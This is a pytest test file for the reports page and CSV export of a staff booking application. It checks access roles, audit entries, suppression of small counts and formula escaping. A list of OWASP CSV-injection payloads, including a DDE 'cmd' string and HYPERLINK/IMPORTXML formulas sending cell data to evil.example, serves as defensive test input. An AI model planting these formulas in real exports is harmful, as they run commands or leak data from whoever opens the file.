"""The reports page of the staff web: who sees it, what it shows, the audited CSV."""

import csv
import io

import pytest

from madoguchi.bookings.models import Consultation
from madoguchi.records.models import AuditEntry
from madoguchi.records.report_tables import csv_cell
from tests.factories import local, make_staff
from tests.signin import signed_in_client
from tests.test_reports import add_consultation, add_request

Status = Consultation.Status


def _client(person):
    """A signed-in client that reads the pages in English (the labels asserted below)."""
    client = signed_in_client(person)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


def _november(world) -> None:
    for day in range(2, 12):
        add_consultation(world, local(2026, 11, day, 9), minutes=45)
    add_consultation(world, local(2026, 11, 13, 10), status=Status.STOPPED)
    add_request(world, local(2026, 11, 2, 9), status="declined", decline_reason="=HYPERLINK(1)")


@pytest.mark.parametrize("persona", ["counselor", "coordinator"])
@pytest.mark.parametrize("path", ["/staff/reports/", "/staff/reports/usage.csv"])
def test_reports_refuse_counselors_and_coordinators(world, persona, path):
    client = _client(getattr(world, persona))

    response = client.get(path, {"period": "2026-11"})

    assert response.status_code == 403
    assert "Reports are for managers and auditors." in response.text
    assert AuditEntry.objects.filter(action="report.exported").count() == 0


@pytest.mark.parametrize("persona", ["manager", "auditor"])
def test_reports_nav_link_shows_for_managers_and_auditors(world, persona):
    client = _client(getattr(world, persona))

    response = client.get("/staff/reports/")

    assert 'href="/staff/reports/" aria-current="page">Reports</a>' in response.text


def test_reports_nav_link_hidden_from_counselors(world):
    response = _client(world.counselor).get("/staff/day/")

    assert 'href="/staff/reports/"' not in response.text


def _last_audit_id() -> int:
    return AuditEntry.objects.order_by("-id").values_list("id", flat=True).first() or 0


def test_reports_page_shows_internal_tables_and_charts(world, django_assert_num_queries):
    _november(world)
    client = _client(world.manager)
    client.get("/staff/reports/")  # the session and sign-in checks warm up
    seen = _last_audit_id()  # the audit log is append-only: look past what is there

    with django_assert_num_queries(14):
        response = client.get("/staff/reports/", {"period": "2026-11"})

    page = response.text
    assert response.status_code == 200
    assert "ハローワーク釧路 · 2026-11 · internal" in page
    assert '<svg role="img" aria-labelledby="chart-held_by_date-title' in page
    assert "By counselor (internal only)" in page
    assert '<th scope="row">sato (sato)</th><td class="num">11</td>' in page
    assert "=HYPERLINK(1)" in page
    assert "style=" not in page
    assert "<script>" not in page
    viewed = AuditEntry.objects.get(action="report.viewed", pk__gt=seen)
    assert (viewed.actor, viewed.office) == (world.manager.user, world.office)
    assert viewed.details == {"scope": "01040", "period": "2026-11", "publishable": False}


def test_reports_page_publishable_suppresses_and_names_nobody(world, django_assert_num_queries):
    _november(world)
    client = _client(world.auditor)
    client.get("/staff/reports/")
    seen = _last_audit_id()

    with django_assert_num_queries(11):
        response = client.get("/staff/reports/", {"period": "2026-11", "version": "publishable"})

    page = response.text
    assert "2026-11 · publishable" in page
    assert "sato" not in page.split("</header>", 1)[1]
    assert "HYPERLINK" not in page
    assert (
        '<th scope="row">Stopped</th><td class="num"><abbr title="suppressed">x</abbr></td>' in page
    )
    assert '<th scope="row">All consultations</th><td class="num">11</td>' in page
    assert not AuditEntry.objects.filter(action="report.viewed", pk__gt=seen).exists()


def test_reports_page_year_charts_by_month(world):
    add_consultation(world, local(2026, 3, 4, 9))

    page = _client(world.manager).get("/staff/reports/", {"period": "2026"}).text

    assert "Consultations held by month" in page
    assert '<th scope="row">March</th><td class="num">1</td>' in page
    assert ">Mar</text>" in page
    assert "<title>Mar: 1</title>" in page


def test_reports_page_tells_a_bad_period_at_the_field(world):
    client = _client(world.manager)

    response = client.get("/staff/reports/", {"period": "2026-13"})

    assert response.status_code == 422
    assert 'aria-describedby="period-help period-error" aria-invalid="true"' in response.text
    assert "Give the month as YYYY-MM or the year as YYYY." in response.text


def test_reports_deployment_is_publishable_only_and_for_superusers(world):
    _november(world)
    add_consultation(world, local(2026, 11, 20, 9), office=world.other_office)
    admin = make_staff(world.office, "manager", "admin")
    admin.user.is_superuser = True
    admin.user.save(update_fields=["is_superuser"])

    as_admin = _client(admin).get(
        "/staff/reports/", {"period": "2026-11", "scope": "all", "version": "internal"}
    )
    # A manager's own office exactly, minus the deployment, would give other offices away.
    as_manager = _client(world.manager).get(
        "/staff/reports/", {"period": "2026-11", "scope": "all"}
    )
    own_page = _client(world.manager).get("/staff/reports/", {"period": "2026-11"})

    assert "All offices · 2026-11 · publishable" in as_admin.text
    assert '<th scope="row">All consultations</th><td class="num">12</td>' in as_admin.text
    assert as_manager.status_code == 403
    assert "The report of all offices is for the registry administrator." in as_manager.text
    assert 'value="all"' not in own_page.text
    assert 'value="all"' in _client(admin).get("/staff/reports/", {"period": "2026-11"}).text


def test_reports_other_office_code_is_not_found(world):
    response = _client(world.manager).get(
        "/staff/reports/usage.csv", {"period": "2026-11", "scope": world.other_office.code}
    )

    assert response.status_code == 404


def test_reports_csv_is_audited_bom_utf8_and_safe(world):
    _november(world)
    client = _client(world.manager)

    response = client.get("/staff/reports/usage.csv", {"period": "2026-11"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="madoguchi-usage-01040-2026-11-internal.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Usage report", "01040", "2026-11", "internal"]
    assert ["'=HYPERLINK(1)", "1"] in rows
    assert ["All consultations", "11"] in rows
    entry = AuditEntry.objects.get(action="report.exported")
    assert entry.actor == world.manager.user
    assert entry.office == world.office
    assert entry.details == {
        "scope": "01040",
        "period": "2026-11",
        "publishable": False,
        "format": "csv",
    }


def test_reports_csv_publishable_marks_suppressed_with_x(world):
    _november(world)

    response = _client(world.auditor).get(
        "/staff/reports/usage.csv", {"period": "2026-11", "version": "publishable"}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Usage report", "01040", "2026-11", "publishable"]
    assert ["Stopped", "x"] in rows
    assert not any("sato" in cell for row in rows for cell in row)
    assert AuditEntry.objects.get(action="report.exported").details["publishable"] is True


# The OWASP CSV-injection payloads (cheat sheet "CSV Injection").
OWASP = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
]


@pytest.mark.parametrize("payload", OWASP)
def test_csv_cell_defuses_formulas(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [(None, "x"), (12, "12"), ("遠方のため", "遠方のため"), ("a=b", "a=b"), (-3, "'-3")],
    ids=["suppressed", "count", "japanese", "inner-equals", "negative"],
)
def test_csv_cell_leaves_plain_values(value, expected):
    assert csv_cell(value) == expected
